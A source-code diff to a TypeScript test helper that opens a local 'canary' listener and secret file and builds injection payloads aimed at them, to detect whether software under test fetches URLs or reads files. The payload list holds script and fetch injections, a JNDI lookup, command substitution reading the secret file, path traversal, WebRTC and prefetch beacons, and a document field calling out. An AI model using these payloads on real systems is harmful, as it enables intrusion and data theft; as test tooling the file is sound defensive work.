@@ -1,12 +1,16 @@
 import { randomUUID } from 'node:crypto';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
-import { type AddressInfo, createServer, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { openEar } from './ear.ts';
 
 /** A server that nobody may reach and a file that nobody may read, with texts that lead there: for tests. */
 export type Canary = {
-  connections: number;
+  /** Connections and datagrams that came. */
+  heard: number;
+  /** Where it listens: one port of each of these hosts. */
+  hosts: string[];
+  port: number;
   /** What the file holds. */
   secret: string;
   /** Every way in which a text could make a program do something; each is one line. */
@@ -21,25 +25,26 @@ export async function openCanary(): Promise<Canary> {
   const secret = `canary-${randomUUID()}`;
   const file = join(folder, 'secret.txt');
   await writeFile(file, secret);
-  const open = new Set<Socket>();
-  const server = createServer((socket) => {
-    canary.connections += 1;
-    open.add(socket.once('close', () => open.delete(socket)));
-    socket.on('error', () => undefined);
-    socket.once('data', () =>
-      socket.end('HTTP/1.1 302 Found\r\nLocation: /again\r\nConnection: close\r\nContent-Length: 0\r\n\r\n'),
-    );
+  const ear = await openEar(() => {
+    canary.heard += 1;
   });
-  await new Promise<void>((listening) => server.listen(0, '0.0.0.0', listening));
-  const { port } = server.address() as AddressInfo;
+  const { hosts, port } = ear;
   const canary: Canary = {
-    connections: 0,
+    heard: 0,
+    hosts,
+    port,
     secret,
     payloads: payloadsTo(`127.0.0.1:${port}`, `2130706433:${port}`, file),
-    addresses: [`http://127.0.0.1:${port}/page`, `http://2130706433:${port}/redirect`, `https://localhost:${port}/x`],
+    addresses: [
+      `http://127.0.0.1:${port}/page`,
+      `http://2130706433:${port}/redirect`,
+      `https://localhost:${port}/x`,
+      `http://[::1]:${port}/six`,
+      `http://[::ffff:7f00:1]:${port}/mapped`,
+      `http://canary.localhost:${port}/name`,
+    ],
     close: async () => {
-      for (const socket of open) socket.destroy();
-      await new Promise((closed) => server.close(closed));
+      await ear.close();
       await rm(folder, { recursive: true, force: true });
     },
   };
@@ -47,6 +52,7 @@ export async function openCanary(): Promise<Canary> {
 }
 
 function payloadsTo(host: string, decimal: string, file: string): string[] {
+  const port = host.split(':').at(-1);
   const field = (code: string) => `\u0013 ${code} \u0014shown\u0015`;
   return [
     `<script src="http://${host}/s.js"></script><script>fetch("http://${host}/f")</script>`,
@@ -69,5 +75,8 @@ function payloadsTo(host: string, decimal: string, file: string): string[] {
     'nul\u0000 bell\u0007 escape\u001b[31m delete\u007f c1\u0085\u009b form\u000c vertical\u000b ffff\uffff fffe\ufffe',
     `half \ud83d of a pair \udc00 and \u202eoverride\u202d \u2066isolate\u2069 \u200f\u061c mark \ufeff bom \u2028 line \u2029 paragraph`,
     `%s%n %00 \${jndi:ldap://${host}/a} {{7*7}} <%= 7 %> ../../..${file} $(cat ${file}) \`cat ${file}\` ; cat ${file}`,
+    `<img src="http://[::1]:${port}/six"><link rel="preconnect" href="http://[::ffff:7f00:1]:${port}"><link rel="dns-prefetch" href="//canary.localhost:${port}"><img srcset="//[::1]:${port}/set 2x">`,
+    `<script>new RTCPeerConnection({iceServers:[{urls:["stun:${host}","stun:[::1]:${port}"]}]}).createOffer()</script><a ping="http://${host}/ping" href="turn:${host}?transport=udp">`,
+    field(`INCLUDEPICTURE "http://[::1]:${port}/six.png" \\d`),
   ];
 }
